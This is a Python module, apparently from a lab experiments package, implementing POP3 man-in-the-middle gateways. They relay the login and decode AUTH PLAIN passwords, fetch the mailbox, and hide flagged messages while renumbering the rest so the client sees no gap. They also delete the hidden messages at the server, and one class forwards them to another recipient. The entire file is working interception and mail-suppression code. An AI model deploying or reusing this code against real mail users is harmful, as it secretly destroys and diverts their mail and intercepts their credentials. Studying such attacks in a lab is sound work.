"""Prefetch: forced gateways that fetch the maildrop at login and answer the client from it."""

from __future__ import annotations

import base64
import socket
from collections.abc import Iterable, Iterator

from kb.lab.experiments.forcing.onward import send_on
from kb.lab.experiments.forcing.pop3_peer import Peer, flagged
from kb.lab.experiments.forcing.position import Position
from kb.lab.wire.dialogue import unstuffed
from kb.lab.wire.listener import Listener


class PrefetchHideDelete(Listener):
    """Fetch all at login, leave flagged messages out of every listing, delete them at the end.

    The client's message numbers are mapped, so it sees 1 to n without a gap. Deletions, the
    client's and the forced ones, are sent upstream at the session's end and committed by QUIT;
    where the client leaves without QUIT, only the forced ones are (RFC 1939 section 6).
    """

    deletes = True

    def __init__(self, place: Position) -> None:
        self._place = place
        super().__init__()

    def serve(self, client: socket.socket) -> None:
        """Serve one session: until login the server answers, then the maildrop fetched."""
        with self.connect(self._place.server) as upstream:
            near, far = Peer(client), Peer(upstream)
            near.say(far.line())
            while command := near.line():
                reply = _login(command, near, far)
                verb = command[:4].upper()
                if verb in (b"PASS", b"APOP", b"AUTH") and reply[0].startswith(b"+OK"):
                    self.opened(session := _Session(near, far, self.deletes))
                    session.serve(reply)
                    return
                near.say(*reply)

    def opened(self, session: _Session) -> None:
        """Called with each maildrop that was fetched, before the login is answered."""


def _login(command: bytes, client: Peer, server: Peer) -> list[bytes]:
    """The server's reply; AUTH PLAIN, in two steps or one, is told as USER and PASS (RFC 5034)."""
    verb, *words = command.split()
    if verb.upper() != b"AUTH" or not words:
        return server.ask(command)
    if words[0].upper() != b"PLAIN":
        return [b"-ERR not offered here\r\n"]
    if len(words) == 1:
        client.say(b"+ \r\n")
        words.append(client.line().strip())
    _, user, password = base64.b64decode(words[1]).split(b"\0")
    asked = server.ask(b"USER " + user + b"\r\n")
    return server.ask(b"PASS " + password + b"\r\n") if asked[0].startswith(b"+OK") else asked


class PrefetchHide(PrefetchHideDelete):
    """As its base, and delete nothing: what is hidden stays in the maildrop."""

    deletes = False


class ResendAndDelete(PrefetchHideDelete):
    """As `PrefetchHideDelete`; and send what it hides to the other recipient."""

    def opened(self, session: _Session) -> None:
        """Send every hidden message on."""
        for message in session.hidden():
            send_on(self._place, message.octets())


class _Message:
    """One message fetched: its number at the server, what LIST and UIDL say, its lines."""

    def __init__(self, number: int, size: bytes, id_: bytes, reply: list[bytes]) -> None:
        self.number, self.size, self.id = number, size, id_
        self.lines = reply[1:]
        self.hidden = flagged(reply)
        self.deleted = False

    def octets(self) -> bytes:
        """The message, dots unstuffed."""
        return unstuffed(line.removesuffix(b"\r\n") for line in self.lines[:-1])

    def top(self, count: int) -> list[bytes]:
        """The header, the empty line and `count` lines of the body (RFC 1939 section 7)."""
        body = self.lines.index(b"\r\n") + 1 if b"\r\n" in self.lines else len(self.lines) - 1
        return [*self.lines[:-1][: body + count], self.lines[-1]]


class _Session:
    """The TRANSACTION state over a fetched maildrop."""

    def __init__(self, client: Peer, server: Peer, deletes: bool) -> None:
        self._client, self._server = client, server
        sizes, ids = dict(_listed(server, b"LIST")), dict(_listed(server, b"UIDL"))
        self._all = [
            _Message(number, size, ids[number], server.ask(b"RETR %d\r\n" % number))
            for number, size in sizes.items()
        ]
        self._shown = [message for message in self._all if not message.hidden]
        self._forced = self.hidden() if deletes else []

    def hidden(self) -> list[_Message]:
        """The messages that the client does not see."""
        return [message for message in self._all if message.hidden]

    def serve(self, greeting: list[bytes]) -> None:
        """Answer the login, then every command until QUIT or the client's end."""
        self._client.say(*greeting)
        while command := self._client.line():
            verb, *arguments = command.split()
            if verb.upper() == b"QUIT":
                self._client.say(
                    *self._update([*self._forced, *(m for m in self._all if m.deleted)])
                )
                return
            self._client.say(*self._answer(verb.upper(), arguments))
        self._update(self._forced)

    def _update(self, messages: Iterable[_Message]) -> list[bytes]:
        for message in messages:
            self._server.ask(b"DELE %d\r\n" % message.number)
        return self._server.ask(b"QUIT\r\n")

    def _answer(self, verb: bytes, arguments: list[bytes]) -> list[bytes]:
        if verb in (b"LIST", b"UIDL", b"STAT") and not arguments:
            return list(self._listing(verb))
        if verb == b"RSET":
            for message in self._shown:
                message.deleted = False
            return [b"+OK\r\n"]
        if verb in (b"LIST", b"UIDL", b"RETR", b"TOP", b"DELE"):
            found = self._find(arguments[0] if arguments else b"")
            return self._of(verb, arguments, found) if found else [b"-ERR no such message\r\n"]
        return [b"+OK\r\n"] if verb == b"NOOP" else [b"-ERR unknown command\r\n"]

    def _listing(self, verb: bytes) -> Iterator[bytes]:
        present = [(n, m) for n, m in enumerate(self._shown, 1) if not m.deleted]
        if verb == b"STAT":
            yield b"+OK %d %d\r\n" % (len(present), sum(int(m.size) for _, m in present))
            return
        yield b"+OK %d messages\r\n" % len(present)
        for number, message in present:
            yield b"%d %s\r\n" % (number, message.size if verb == b"LIST" else message.id)
        yield b".\r\n"

    def _find(self, argument: bytes) -> _Message | None:
        number = int(argument) if argument.isdigit() else 0
        if not 0 < number <= len(self._shown) or self._shown[number - 1].deleted:
            return None
        return self._shown[number - 1]

    def _of(self, verb: bytes, arguments: list[bytes], message: _Message) -> list[bytes]:
        if verb == b"DELE":
            message.deleted = True
            return [b"+OK\r\n"]
        if verb in (b"LIST", b"UIDL"):
            value = message.size if verb == b"LIST" else message.id
            return [b"+OK %s %s\r\n" % (arguments[0], value)]
        if verb == b"RETR":
            return [b"+OK %s octets\r\n" % message.size, *message.lines]
        lines = arguments[1] if len(arguments) > 1 else b""
        if not lines.isdigit():
            return [b"-ERR TOP wants a number of lines\r\n"]
        return [b"+OK\r\n", *message.top(int(lines))]


def _listed(server: Peer, verb: bytes) -> Iterator[tuple[int, bytes]]:
    for line in server.ask(verb + b"\r\n")[1:-1]:
        number, value = line.split()[:2]
        yield int(number), value
